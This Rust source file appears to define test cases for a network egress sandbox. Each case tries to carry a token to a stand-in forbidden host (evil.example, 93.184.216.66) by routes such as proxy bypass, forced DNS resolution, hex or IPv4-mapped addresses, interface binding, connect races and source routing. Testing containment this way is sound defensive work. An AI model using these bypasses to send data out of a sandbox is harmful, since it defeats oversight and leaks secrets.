//! Around the proxy variables, around the name, around the way an address is written.

use crate::internet::programs::Program::{Curl, Git, Go, Httpx, Node, Own, Psql, Requests};
use crate::internet::trick::Need::{Pair, Root};
use crate::internet::trick::Proof::{Arrives, ArrivesAfter, Secret};
use crate::internet::trick::{Trick, tricks};

pub(super) fn tricks() -> Vec<Trick> {
    let evil = Secret("evil.example");
    let stream = Secret("stream");
    tricks! {
        // 1: a program that cares for no proxy variable.
        1 "page of a forbidden name" Curl ["--noproxy", "*", "https://evil.example/{token}"] evil;
        1 "page of a forbidden name" Node ["get", "https://evil.example/{token}"] evil;
        1 "page of a forbidden name" Requests ["https://evil.example/{token}"] evil;
        1 "page of a forbidden name" Httpx ["https://evil.example/{token}"] evil;
        1 "page of a forbidden name" Go ["https://evil.example/{token}"] Arrives;
        1 "refs of a forbidden name" Git ["ls-remote", "https://evil.example/{token}.git"] Arrives;
        1 "question to a forbidden database" Psql ["93.184.216.66"] Secret("evil-database");
        1 "page by an address" Curl ["http://93.184.216.66/{token}"] evil;
        1 "page by an address that was told beforehand" Curl ["--resolve", "evil.example:443:93.184.216.66", "https://evil.example/{token}"] evil;
        1 "connect" Own ["streams.connect", "93.184.216.66", "4444", "{token}"] stream;
        1 "connect without waiting" Own ["streams.nonblocking", "93.184.216.66", "4444", "{token}"] stream;
        1 "connect to a mail server" Own ["streams.connect", "93.184.216.66", "25", "{token}"] stream;
        1 "connect past the routes (SO_BINDTODEVICE)" Own ["streams.bound", "eth0", "93.184.216.66", "4444", "{token}"] stream, needs(Pair);
        1 "connect again after AF_UNSPEC" Own ["streams.reconnect", "93.184.216.10", "93.184.216.66", "80", "GET /{token} HTTP/1.0\r\nHost: evil.example\r\n\r\n"] evil;
        1 "address changed while connect reads it" Own ["streams.switched", "93.184.216.10", "93.184.216.66", "80", "GET /{token} HTTP/1.0\r\nHost: evil.example\r\n\r\n"] evil;
        1 "neighbour of an allowed address" Curl ["--resolve", "neighbour.shop.example:443:93.184.216.11", "https://neighbour.shop.example/{token}"] Secret("neighbour.shop.example");
        1 "address of a name that has expired" Own ["streams.later", "expiring.shop.example", "80", "{token}", "33"] ArrivesAfter(33);
        // 7: other families, and other ways to write an address.
        7 "connect by IPv6" Own ["streams.connect", "2606:2800:220::66", "4444", "{token}"] stream;
        7 "page by an IPv6 address" Curl ["http://[2606:2800:220::66]/{token}"] evil;
        7 "connect to an IPv4-mapped address" Own ["streams.connect", "::ffff:93.184.216.66", "4444", "{token}"] stream;
        7 "page of an IPv4-mapped address" Curl ["http://[::ffff:93.184.216.66]/{token}"] evil;
        7 "connect to a link-local address with a scope" Own ["streams.connect", "fe80::1%eth0", "4444", "{token}"] stream, needs(Pair);
        7 "page by an address in hexadecimal digits" Curl ["http://0x5db8d842/{token}"] evil;
        7 "datagram by a loose source route" Own ["datagrams.routed", "db.shop.example", "93.184.216.66", "5432", "{token}"] Arrives, needs(Root);
        7 "datagram by a loose source route of one message" Own ["datagrams.routed_once", "db.shop.example", "93.184.216.66", "5432", "{token}"] Arrives, needs(Root);
        7 "datagram by a segment routing header" Own ["datagrams.segments", "api.shop.example", "2606:2800:220::66", "5432", "{token}"] Arrives;
        7 "datagram to an IPv4-mapped address" Own ["datagrams.sendto", "::ffff:93.184.216.66", "4444", "{token}"] Arrives;
        7 "datagram by IPv6" Own ["datagrams.sendto", "2606:2800:220::66", "4444", "{token}"] Arrives;
    }
}
